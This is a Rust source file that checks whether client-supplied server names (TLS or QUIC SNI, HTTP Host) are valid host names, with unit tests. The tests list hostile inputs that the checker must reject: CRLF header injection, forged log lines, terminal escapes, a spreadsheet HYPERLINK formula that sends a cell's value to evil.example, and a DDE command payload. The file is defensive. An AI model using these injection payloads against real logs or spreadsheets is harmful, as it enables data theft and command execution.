//! Whether the bytes a client sent as a server name (TLS or QUIC SNI, HTTP Host) are a host
//! name. The wire carries whatever a client puts there: NUL and control bytes, blanks,
//! 300-byte labels, `=HYPERLINK(...)`. A record must not pass such bytes on as a name (to
//! a log, a terminal, a spreadsheet, a collector), and an investigator must still see that
//! the flow sent something that was not one; the daemon checks each name as it captures it
//! and keeps only the fact for those that fail.
//!
//! Written here rather than taken from a crate: the rule is a few lines, it must be
//! `no_std` like the rest of this crate, and it is deliberately more lenient than RFC 1123
//! in ways the crates are not (see [`is_host_name`]).

use crate::domain::trim_root;

/// Longest host name in text form (RFC 1035 §2.3.4: 255 bytes on the wire, 253 as text).
pub const MAX_HOST_NAME_LEN: usize = 253;
/// Longest label (RFC 1035 §2.3.4).
pub const MAX_LABEL_LEN: usize = 63;

/// Whether `name` is a host name a server could have: dot-separated labels of 1 to 63
/// letters, digits, hyphens and underscores, 253 bytes at most, one trailing dot allowed;
/// or an IPv6 address (an HTTP Host's literal, whose brackets the parser has taken off; an
/// IPv4 address is a host name by these rules already).
///
/// Lenient where real servers are: underscores (`_dmarc`, some CDNs' names) and hyphens at
/// a label's ends are accepted. Internationalised names are accepted in their ASCII form
/// (`xn--...`), which is the only one TLS and HTTP/1.1 carry; raw UTF-8 is not.
pub fn is_host_name(name: &[u8]) -> bool {
    is_ipv6_literal(name) || has_host_name_syntax(trim_root(name))
}

fn has_host_name_syntax(name: &[u8]) -> bool {
    !name.is_empty() && name.len() <= MAX_HOST_NAME_LEN && name.split(|&b| b == b'.').all(is_label)
}

fn is_label(label: &[u8]) -> bool {
    (1..=MAX_LABEL_LEN).contains(&label.len())
        && label
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
}

fn is_ipv6_literal(name: &[u8]) -> bool {
    core::str::from_utf8(name).is_ok_and(|text| text.parse::<core::net::Ipv6Addr>().is_ok())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::{format, string::String, vec, vec::Vec};

    #[test]
    fn host_names_and_address_literals_pass() {
        let label_63 = "a".repeat(63);
        let name_253 = format!("{label_63}.{label_63}.{label_63}.{}", "b".repeat(61));
        assert_eq!(name_253.len(), 253);
        for name in [
            "www.youtube.com",
            "www.BBC.co.uk",
            "localhost",
            "example.com.",
            "xn--bcher-kva.example",
            "_dmarc.example.org",
            "-edge-.cdn.example",
            "192.0.2.10",
            "2001:db8::1",
            "::ffff:192.0.2.1",
            &label_63,
            &name_253,
        ] {
            assert!(is_host_name(name.as_bytes()), "{name:?} is a host name");
        }
    }

    /// What a hostile client puts where a name goes.
    #[test]
    fn what_is_not_a_host_name_fails() {
        let label_64 = "a".repeat(64);
        let label_63 = "a".repeat(63);
        let name_254 = format!("{label_63}.{label_63}.{label_63}.{}", "b".repeat(62));
        assert_eq!(name_254.len(), 254);
        let mut hostile: Vec<Vec<u8>> = vec![
            b"".to_vec(),
            b".".to_vec(),
            b"..".to_vec(),
            b"www..example.com".to_vec(),
            b".example.com".to_vec(),
            b"example.com..".to_vec(),
            b"www.example.com\0".to_vec(),
            b"www.exa\0mple.com".to_vec(),
            b"\0".to_vec(),
            b"www.example.com\r\nX-Injected: 1".to_vec(),
            b"www.example.com\n2026-01-01 INFO forged log line".to_vec(),
            b"\x1b[31mred\x1b[0m.example".to_vec(),
            b"\x7f.example".to_vec(),
            b"www example.com".to_vec(),
            b"www.example.com ".to_vec(),
            b"\twww.example.com".to_vec(),
            b"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".to_vec(),
            b"=1+2".to_vec(),
            b"+cmd|' /C calc'!A0".to_vec(),
            b"@SUM(1+1)".to_vec(),
            b"www.example.com/path".to_vec(),
            b"user@www.example.com".to_vec(),
            b"www.example.com:443".to_vec(),
            b"[2001:db8::1]".to_vec(),
            b"*.example.com".to_vec(),
            b"b\xc3\xbccher.example".to_vec(),
            b"\xff\xfe".to_vec(),
            label_64.clone().into_bytes(),
            format!("www.{label_64}.com").into_bytes(),
            name_254.into_bytes(),
            "a.".repeat(200).into_bytes(),
        ];
        for byte in (0u8..=0x20).chain(0x7f..=0xff) {
            hostile.push([b"www.ex", &[byte][..], b"ample.com"].concat());
        }
        for name in hostile {
            assert!(
                !is_host_name(&name),
                "{:?} is not a host name",
                String::from_utf8_lossy(&name)
            );
        }
    }
}
